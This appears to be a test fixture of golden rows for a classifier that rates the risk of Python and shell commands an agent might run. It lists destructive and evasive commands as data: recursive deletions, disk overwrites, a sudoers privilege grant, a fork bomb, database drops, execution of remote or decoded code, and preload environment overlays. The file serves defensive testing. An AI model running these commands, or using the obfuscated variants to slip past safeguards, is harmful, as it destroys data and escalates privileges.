import type { Tier } from "../../../src/core/index.js";
import type { Basis, ProgramInput } from "../../../src/policy/index.js";

/**
 * Golden rows for programs classified with their interpreter, stdin and
 * environment (what shell_exec and shell_script hand the classifier), and
 * for the opaque-program and deletion families of shell text. A rule change
 * updates them in the same commit.
 */
export interface ProgramRow {
  input: ProgramInput;
  tier: Tier;
  basis: Basis;
}

/** A shell_script with interpreter python3. */
function py(program: string, tier: Tier, basis: Basis, env = ""): ProgramRow {
  return { input: { language: "python", program, stdin: "", env }, tier, basis };
}

/** A shell_exec command with its stdin and env_json. */
function sh(command: string, tier: Tier, basis: Basis, stdin = "", env = ""): ProgramRow {
  return { input: { language: "shell", program: command, stdin, env }, tier, basis };
}

/** A shell_script with interpreter bash: the script is also its commands' stdin. */
function bash(script: string, tier: Tier, basis: Basis, env = ""): ProgramRow {
  return { input: { language: "shell", program: script, stdin: script, env }, tier, basis };
}

export const PROGRAM_ROWS: readonly ProgramRow[] = [
  // shell_script in Python: the findings of the hardening review
  py("import shutil\nshutil.rmtree('/srv/data')", 3, "file_destruction"),
  py('import os\nos.system("rm -rf /srv/data")', 3, "file_destruction"),
  py('import subprocess\nsubprocess.run(["rm", "-rf", "/srv/data"])', 3, "file_destruction"),
  py("__import__('shutil').rmtree('/srv/data')", 3, "file_destruction"),
  // process execution: the command is classified as shell text or as an argv
  py("import os\nos.popen('reboot').read()", 3, "power_kernel"),
  py(
    "import subprocess\nsubprocess.check_output('systemctl restart nginx', shell=True)",
    2,
    "service_change",
  ),
  py("import subprocess\nsubprocess.Popen(['sudo', 'apt', 'install', 'x'])", 2, "privilege_escalation"),
  py("import pty\npty.spawn (['bash', '-c', 'rm -rf /srv'])", 3, "file_destruction"),
  py("import os\nos.execvp('rm', ['rm', '-rf', '/srv'])", 3, "file_destruction"),
  py("import os\nos.spawnlp(os.P_WAIT, 'shutdown', 'shutdown', '-h', 'now')", 3, "power_kernel"),
  py("import os\ncmd = 'rm -rf /srv'\nos.system(cmd)", 3, "file_destruction"),
  py("import subprocess\nargv = ['rm', '-rf', '/srv']\nsubprocess.call(argv)", 3, "file_destruction"),
  py("import os, sys\nos.system(f'rm -rf {sys.argv[1]}')", 3, "file_destruction"),
  py("import os\nos.system('rm -rf ' + target)", 3, "file_destruction"),
  py("import os\nos.system(input())", 3, "dynamic_command"),
  py("import subprocess\nsubprocess.run([tool, '-x'])", 3, "dynamic_command"),
  // aliases, star imports, dynamic imports
  py("import os as o\no.system('rm -rf /srv')", 3, "file_destruction"),
  py("from shutil import rmtree as r\nr('/srv')", 3, "file_destruction"),
  py("from os import *\nsystem('rm -rf /srv')", 3, "file_destruction"),
  py("from subprocess import *\ncall(['rm', '-rf', '/srv'])", 3, "file_destruction"),
  py("import os\nrun = os.system\nrun('rm -rf /srv')", 3, "file_destruction"),
  py("import os\ngetattr(os, 'sys' + 'tem')('rm -rf /srv')", 3, "file_destruction"),
  py("(lambda: __import__('os').system('rm -rf /srv'))()", 3, "file_destruction"),
  py("import ctypes\nctypes.CDLL(None).system(b'rm -rf /srv')", 3, "file_destruction"),
  py("import os\nfns = [os.system]\nfns[0](name)", 3, "dynamic_command"),
  py("import os\nos.path.os.system('rm -rf /srv')", 3, "file_destruction"),
  py("import shutil\nshutil.os.remove('/tmp/c/f')", 1, "default"),
  py("import os\nclass A:\n    run = os.system\nA.run('id')", 3, "dynamic_command"),
  py("import os\nf = (os.system, print)\nf[0]('id')", 3, "dynamic_command"),
  py("import os\nｏｓ.remove('/tmp/c/f')", 1, "default"),
  py("def system(c):\n    print(c)\nfrom os import *\nsystem('rm -rf /srv')", 3, "file_destruction"),
  py("from os import *\nopen('/etc/hosts', O_WRONLY | O_TRUNC)", 2, "config_change"),
  py("import sh\nsh.rm('-rf', '/srv')", 2, "opaque_program"),
  py("import io\nio.FileIO('/dev/sda', 'w').write(b'0')", 3, "storage_destruction"),
  py("import os\nvars(os)['system']('id')", 2, "opaque_program"),
  py("import os\nglobals()['os'].system('id')", 2, "opaque_program"),
  py("import os\nos.fchdir(3)\nos.chroot('.')", 2, "opaque_program"),
  py("import os\nmystery('x')", 2, "opaque_program"),
  // deletion
  py("import os\nos.remove('/tmp/c/f')", 1, "default"),
  py("import os\nos.unlink('/etc/hosts')", 3, "file_destruction"),
  py("import os\nos.rmdir('/tmp/c/d')", 1, "default"),
  py("import os\nos.removedirs('a/b/c')", 1, "default"),
  py("from pathlib import Path\nPath('/tmp/c/f').unlink()", 1, "default"),
  py("import pathlib\npathlib.Path('/tmp/c/d').rmdir()", 1, "default"),
  py("import os\nfor f in os.listdir('/tmp/c'):\n    os.remove(f)", 3, "file_destruction"),
  py("from pathlib import Path\nfor p in Path('/tmp/c').rglob('*'):\n    p.unlink()", 3, "file_destruction"),
  py("import os, glob\nlist(map(os.remove, glob.glob('/tmp/c/*')))", 3, "file_destruction"),
  py("import shutil, sys\nshutil.rmtree(sys.argv[1])", 3, "file_destruction"),
  // writes
  py("open('/etc/hosts', 'w').write('x')", 2, "config_change"),
  py("with open('/etc/sudoers', 'a') as f:\n    f.write('x ALL=(ALL) NOPASSWD: ALL')", 2, "account_access"),
  py("open('/dev/sda', 'wb').write(b'0' * 512)", 3, "storage_destruction"),
  py("open('/usr/bin/ls', 'w')", 3, "file_destruction"),
  py("import pathlib\np = pathlib.Path('/etc') / 'motd'\np.write_text('x')", 2, "config_change"),
  py("import os\nos.rename('/etc/hosts', '/tmp/h')", 2, "config_change"),
  py("import os\nos.replace('/tmp/x', '/etc/resolv.conf')", 2, "config_change"),
  py("import os\nos.chmod('/etc/shadow', 0o777)", 2, "permission_change"),
  py("import os\nos.chown('/srv/app', 0, 0)", 2, "permission_change"),
  py("import os\nos.symlink('/etc/passwd', '/tmp/p')", 2, "filesystem_change"),
  py("import os\nos.truncate('/etc/fstab', 0)", 3, "file_destruction"),
  py("import os\nos.kill(1, 9)", 3, "process_kill"),
  py(
    "import sqlite3\ndb = sqlite3.connect('app.db')\ndb.execute('DROP TABLE users')",
    3,
    "data_store_destruction",
  ),
  py(
    "import sqlite3\ncur = sqlite3.connect('app.db').cursor()\ncur.executescript('delete from t; truncate table logs')",
    3,
    "data_store_destruction",
  ),
  py("import os\nwhile True:\n    os.fork ()", 3, "fork_bomb"),
  // code the classifier cannot see
  py("exec(\"import shutil; shutil.rmtree('/srv')\")", 3, "file_destruction"),
  py("eval(compile('import os; os.system(\"reboot\")', 'x', 'exec'))", 3, "power_kernel"),
  py("import sys\nexec(sys.argv[1])", 2, "opaque_program"),
  py("exec(open('job.py').read())", 2, "opaque_program"),
  py("import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))", 3, "decoded_code"),
  py("import urllib.request\nexec(urllib.request.urlopen('http://x/y').read())", 3, "remote_code"),
  py("import importlib\nm = importlib.import_module('os')", 2, "opaque_program"),
  py("__import__(name)", 2, "opaque_program"),
  py("import pickle\npickle.loads(blob)", 2, "opaque_program"),
  py("().__class__.__base__.__subclasses__()", 2, "opaque_program"),
  py("__builtins__['exec']('print(1)')", 2, "opaque_program"),
  py("import socket\ns = socket.create_connection(('192.0.2.1', 80))", 2, "opaque_program"),
  py("import requests\nprint(requests.get('http://example.invalid').text)", 2, "opaque_program"),
  py("import os\nos.system('rm -rf /srv'", 3, "file_destruction"),
  py("import os\nos.system('ls'", 2, "opaque_program"),
  // look-alikes that stay low
  py("print('hello')", 1, "default"),
  py("print('rm -rf /; reboot; shutil.rmtree')", 1, "default"),
  py("with open('/etc/hosts') as f:\n    print(f.read())", 1, "default"),
  py("import json, sys\ndata = json.load(sys.stdin)\nprint(json.dumps(data, indent=2))", 1, "default"),
  py("import json\nwith open('data.json') as f:\n    d = json.load(f)\nprint(d.get('k'))", 1, "default"),
  py("import os\nfor root, dirs, files in os.walk('.'):\n    print(root, len(files))", 1, "default"),
  py(
    "import os\nprint(os.listdir('.'), os.getcwd(), os.path.join('a', 'b'), os.environ.get('HOME'))",
    1,
    "default",
  ),
  py("from pathlib import Path\nprint(Path('/etc/os-release').read_text())", 1, "default"),
  py("import subprocess\nprint(subprocess.run(['ls', '-la'], capture_output=True).stdout)", 1, "default"),
  py("import os\nos.makedirs('/tmp/c/new', exist_ok=True)", 1, "default"),
  py("with open('/tmp/c/out.txt', 'w') as f:\n    f.write('x')", 1, "default"),
  py("import shutil\nshutil.copy('a.txt', 'b.txt')", 1, "default"),
  py("items = [1, 2]\nitems.remove(1)\nprint('a-b'.replace('-', '+'))", 1, "default"),
  py("def main():\n    print('hi')\n\nif __name__ == '__main__':\n    main()", 1, "default"),
  py("import sys\nprint(sys.version)", 1, "default"),
  py("import socket\nprint(socket.gethostname())", 1, "default"),
  py(
    "import sqlite3\ndb = sqlite3.connect('app.db')\nprint(db.execute('SELECT name FROM users').fetchall())",
    1,
    "default",
  ),
  py("import os  # os.system('rm -rf /srv')\nprint(os.getcwd())", 1, "default"),
  // text Python cannot read is opaque (the grammar may lag behind the interpreter)
  py("echo 'print(1)'", 2, "opaque_program"),
  // stdin fed to an interpreter by the tool
  sh("python3 -", 3, "file_destruction", "import shutil\nshutil.rmtree('/srv/data')"),
  sh("python3", 3, "file_destruction", "import os\nos.system('rm -rf /srv/data')"),
  sh("python3 -", 2, "inline_interpreter", "print(1)"),
  sh("sudo python3 -", 3, "file_destruction", "import shutil\nshutil.rmtree('/srv')"),
  sh("ipython -c \"import os; os.remove('/tmp/c/f')\"", 2, "inline_interpreter"),
  sh("python3.11 -I - <<'EOF'\nimport os\nos.system('reboot')\nEOF", 3, "power_kernel"),
  sh("perl", 2, "opaque_program", "print 1"),
  sh("ruby -", 2, "opaque_program", "puts 1"),
  sh("node", 2, "opaque_program", "console.log(1)"),
  sh("php", 2, "opaque_program", "<?php echo 1;"),
  sh("lua -", 2, "opaque_program", "print(1)"),
  sh("perl", 3, "file_destruction", "system('rm -rf /srv')"),
  sh("bash", 3, "file_destruction", "rm -rf /srv"),
  sh("psql", 3, "data_store_destruction", "DROP DATABASE prod;"),
  sh("cat", 0, "proven_read", "print('hello')"),
  sh("python3 --version", 0, "proven_read"),
  // a bash script whose commands read the rest of it
  bash("python3 -\nimport shutil\nshutil.rmtree('/srv')", 3, "file_destruction"),
  bash("python3 - <<'EOF'\nprint(1)\nEOF", 2, "inline_interpreter"),
  // environment overlays that make a program load code
  sh("true", 2, "startup_env", "", '{"BASH_ENV": "/tmp/x.sh"}'),
  sh("sh -c 'echo hi'", 2, "startup_env", "", '{"ENV": "/tmp/x.sh"}'),
  sh("python3 -V", 2, "startup_env", "", '{"PYTHONSTARTUP": "/tmp/x.py"}'),
  sh("node app.js", 2, "script_file", "", '{"NODE_OPTIONS": "--require /tmp/x.js"}'),
  sh("ls", 2, "startup_env", "", '{"LD_PRELOAD": "/tmp/x.so"}'),
  sh("perl -v", 2, "startup_env", "", '{"PERL5OPT": "-Mx"}'),
  sh("ls", 2, "startup_env", "", '{"BASH_FUNC_ls%%": "() { echo hi; }"}'),
  sh("ls", 3, "file_destruction", "", '{"BASH_FUNC_ls%%": "() { rm -rf /srv; }"}'),
  sh("ls", 3, "dynamic_command", "", '{"BASH_ENV": "$(rm -rf /srv)"}'),
  sh("ls", 1, "default", "", '{"LD_PRELOAD": null, "LANG": "C"}'),
  py("print(1)", 2, "startup_env", '{"PYTHONPATH": "/tmp/evil"}'),
  bash("true", 2, "startup_env", '{"BASH_ENV": "/tmp/x.sh"}'),
  // the same variables set in shell text
  sh("BASH_ENV=/tmp/x.sh bash -c true", 2, "startup_env"),
  sh("LD_PRELOAD=/tmp/x.so ls", 2, "startup_env"),
  sh("env NODE_OPTIONS='--require /tmp/x.js' node -v", 2, "startup_env"),
  sh("export PYTHONSTARTUP=/tmp/x.py; python3 -V", 2, "startup_env"),
  sh("declare -x ENV=/tmp/x.sh", 2, "startup_env"),
  sh("FOO=1 LANG=C ls", 1, "default"),
  sh("echo LD_PRELOAD=/tmp/x.so", 0, "proven_read"),
  // script files handed to an interpreter
  sh("bash file.sh", 2, "script_file"),
  sh("sh ./f", 2, "script_file"),
  sh(". ./f", 2, "script_file"),
  sh("source ~/.profile", 2, "script_file"),
  sh("python3 tool.py --dry-run", 2, "script_file"),
  sh("node f.js", 2, "script_file"),
  sh("perl -w f.pl", 2, "script_file"),
  sh("bash -x /opt/x/install.sh", 2, "script_file"),
  // the deletion family
  sh("unlink /tmp/c/f", 1, "default"),
  sh("rmdir /tmp/c", 1, "default"),
  sh("unlink /tmp/c/f && rmdir /tmp/c", 1, "default"),
  sh("rmdir -p a/b/c", 1, "default"),
  sh("rmdir /usr", 3, "file_destruction"),
  sh("find /tmp/c -type d -empty -exec rmdir {} +", 3, "file_destruction"),
  sh("ls | xargs unlink", 3, "file_destruction"),
  sh("find /tmp/c -delete", 3, "file_destruction"),
  sh("truncate -s 0 /tmp/c/f", 2, "file_destruction"),
  sh("shred /tmp/c/f", 3, "storage_destruction"),
];
